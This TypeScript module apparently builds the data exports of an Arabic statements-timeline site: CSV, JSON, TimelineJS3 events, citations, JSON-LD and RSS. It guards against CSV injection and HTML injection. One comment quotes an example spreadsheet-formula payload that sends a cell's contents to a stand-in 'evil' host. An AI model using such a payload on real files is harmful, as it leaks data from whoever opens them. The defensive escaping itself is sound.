/**
 * The statements as data for others: a JSON export with full provenance, a
 * CSV that Excel opens in Arabic, TimelineJS3 JSON for newsrooms, a citation
 * line and schema.org JSON-LD for each event page. All pure functions of the
 * statements and their source articles. The three whole-timeline files come
 * in parts, for the build to stream (stream.ts).
 */
import { SITE_NAME, TAGLINE } from '../brand.ts';
import { formatArabicDate } from '../dates/format.ts';
import type { Statement } from '../extract/types.ts';
import { paths } from '../paths.ts';
import { isInstitution } from '../speakers/lexicon.ts';
import { nameKey } from '../speakers/registry.ts';
import { SIDE_LABELS } from './labels.ts';
import { prettyJsonWithList } from './stream.ts';
import { shownWords, wordsLine } from './words.ts';

/** What an export needs to know about a statement's source article. */
export interface Source {
  slug: string;
  title: string;
  outlet: string;
  /** Where the article was filed from («أربيل»), when it says. */
  dateline?: string | undefined;
  published: string;
  url?: string | undefined;
}

/**
 * The address of the paragraph a statement starts in; the article itself for a statement
 * only its headline makes («X: …»), which has no paragraph.
 */
export const paragraphPath = (s: Statement): string => paths.paragraph(s.article, s.paragraphs[0]);

/** One statement with its provenance, as `/timeline.json` lists it (schema in the README). */
export function exportRecord(s: Statement, source: Source | undefined, site: URL) {
  return {
    ...s,
    url: new URL(paths.event(s.id), site).href,
    source: {
      article: s.article,
      title: source?.title ?? '',
      outlet: source?.outlet ?? '',
      published: source?.published ?? '',
      originalUrl: source?.url ?? null,
      paragraphUrls: s.paragraphs.map((p) => new URL(paths.paragraph(s.article, p), site).href),
    },
  };
}

const CSV_COLUMNS = [
  'id',
  'date',
  'date_precision',
  'date_basis',
  'date_evidence',
  'speaker_id',
  'speaker_name',
  'speaker_name_en',
  'speaker_role',
  'side',
  'quotes',
  'text',
  'outlet',
  'article_title',
  'published',
  'paragraph_url',
  'original_url',
  'event_url',
];

/**
 * One CSV cell. A cell that begins with = + - @, a tab or a carriage return
 * is a formula to a spreadsheet (`=HYPERLINK("https://evil/?"&A2,"…")` in a
 * headline would run when the file is opened), so it gets a leading `'`, as
 * OWASP advises (CSV injection); the text is otherwise as written.
 */
function csvCell(value: string): string {
  const safe = /^[=+\-@\t\r]/u.test(value) ? `'${value}` : value;
  return /[",\n\r]/u.test(safe) ? `"${safe.replace(/"/gu, '""')}"` : safe;
}

/** `/timeline.csv` in parts: UTF-8 with a byte-order mark (so Excel reads the Arabic), the header, then one row per statement, CRLF lines. */
export function* csvParts(statements: readonly Statement[], sources: ReadonlyMap<string, Source>, site: URL): Generator<string> {
  yield `\ufeff${CSV_COLUMNS.join(',')}\r\n`;
  for (const s of statements) {
    const src = sources.get(s.article);
    const row = [
      s.id,
      s.date,
      s.datePrecision,
      s.dateBasis,
      s.dateEvidence,
      s.speaker.id,
      s.speaker.name,
      s.speaker.nameEn ?? '',
      s.speaker.role ?? '',
      s.speaker.side ?? '',
      s.quotes.join(' | '),
      s.text,
      src?.outlet ?? '',
      src?.title ?? '',
      src?.published ?? '',
      new URL(paragraphPath(s), site).href,
      src?.url ?? '',
      new URL(paths.event(s.id), site).href,
    ];
    yield `${row.map(csvCell).join(',')}\r\n`;
  }
}

/** `/timeline.json` in parts: `{ "statements": [...] }`, each with its provenance (`exportRecord`), indented. */
export function timelineJsonParts(statements: readonly Statement[], sources: ReadonlyMap<string, Source>, site: URL): Iterable<string> {
  return prettyJsonWithList({}, 'statements', statements, (s) => exportRecord(s, sources.get(s.article), site));
}

/** `/timelinejs.json` in parts: the TimelineJS3 format, one event per statement, grouped by side. */
export function timelineJsParts(statements: readonly Statement[], sources: ReadonlyMap<string, Source>, site: URL): Iterable<string> {
  const title = { text: { headline: SITE_NAME, text: TAGLINE } };
  return prettyJsonWithList({ title }, 'events', statements, (s) => timelineJsEvent(s, sources.get(s.article), site));
}

/**
 * One statement as a TimelineJS3 event. TimelineJS sets the headline, the
 * text, the display date and the group label as HTML (`innerHTML`), so every
 * one of them is escaped: a speaker's name can hold markup («جون<img …>سميث»
 * reads as a name to the extractor).
 */
function timelineJsEvent(s: Statement, src: Source | undefined, site: URL) {
  const [year, month, day] = s.date.split('-').map(Number);
  const side = SIDE_LABELS[s.speaker.side ?? 'other'];
  return {
    unique_id: s.id,
    start_date: { year, month, day, display_date: escapeHtml(formatArabicDate(s.date)) },
    text: {
      headline: escapeHtml(s.speaker.name),
      text: `<p>${escapeHtml(wordsLine(s))}</p><p><a href="${escapeHtml(new URL(paths.event(s.id), site).href)}">${escapeHtml(src?.outlet ?? '')}</a></p>`,
    },
    group: escapeHtml(side.ar),
  };
}

/** Escape text for the small HTML snippets TimelineJS shows. */
export function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/gu, (ch) => `&#${ch.charCodeAt(0)};`);
}

/** A citation's pieces, so that a page can isolate the Latin ones (an English name, an outlet, the URL) from the Arabic around them. */
export interface CitationParts {
  name: string;
  nameEn?: string | undefined;
  date: string;
  source?: { outlet: string; title: string; published: string } | undefined;
  url: string;
}

/** The pieces of a statement's citation line (`citation`). */
export function citationParts(s: Statement, source: Source | undefined, site: URL): CitationParts {
  return {
    name: s.speaker.name,
    nameEn: s.speaker.nameEn,
    date: formatArabicDate(s.date),
    source: source && { outlet: source.outlet, title: source.title, published: formatArabicDate(source.published.slice(0, 10)) },
    url: new URL(paths.event(s.id), site).href,
  };
}

/** A citation line for a statement, to copy into an article or a paper. */
export function citation(s: Statement, source: Source | undefined, site: URL): string {
  const { name, nameEn, date, source: from, url } = citationParts(s, source, site);
  const who = nameEn ? `${name} (${nameEn})` : name;
  const cited = from ? `، نقلاً عن ${from.outlet}، «${from.title}»، ${from.published}` : '';
  return `${who}، ${date}${cited}. ${SITE_NAME}: ${url}`;
}

/**
 * schema.org JSON-LD for an event page, based on the news article: a
 * Quotation by its speaker when the article quotes them, else a CreativeWork
 * about them whose abstract is the article's reported sentence (never
 * presented as their words).
 */
export function quotationJsonLd(s: Statement, source: Source | undefined, site: URL) {
  const speaker = {
    '@type': isInstitution(nameKey(s.speaker.name)) ? 'Organization' : 'Person',
    name: s.speaker.name,
    ...(s.speaker.nameEn ? { alternateName: s.speaker.nameEn } : {}),
    url: new URL(paths.speaker(s.speaker.id), site).href,
  };
  const words = shownWords(s);
  return {
    '@context': 'https://schema.org',
    '@type': words.quoted ? 'Quotation' : 'CreativeWork',
    '@id': new URL(paths.event(s.id), site).href,
    ...(words.quoted ? { text: words.text, spokenByCharacter: speaker, creator: speaker } : { abstract: words.text, about: speaker }),
    inLanguage: 'ar',
    dateCreated: s.date,
    isBasedOn: {
      '@type': 'NewsArticle',
      headline: source?.title ?? '',
      datePublished: source?.published ?? '',
      publisher: { '@type': 'Organization', name: source?.outlet ?? '' },
      url: new URL(paragraphPath(s), site).href,
      ...(source?.url ? { sameAs: source.url } : {}),
    },
  };
}

/** Characters of the words in an RSS item's title: a feed reader shows about one line. */
export const RSS_TITLE_WORDS = 90;

/** One statement as an RSS item: the speaker and the words (quoted only when they are a quotation), cut between words. */
export function rssItem(s: Statement, source: Source | undefined) {
  return {
    title: `${s.speaker.name}: ${wordsLine(s, RSS_TITLE_WORDS)}`,
    link: paths.event(s.id),
    pubDate: new Date(`${s.date}T00:00:00Z`),
    description: `${wordsLine(s)} (${source?.outlet ?? ''})`,
  };
}
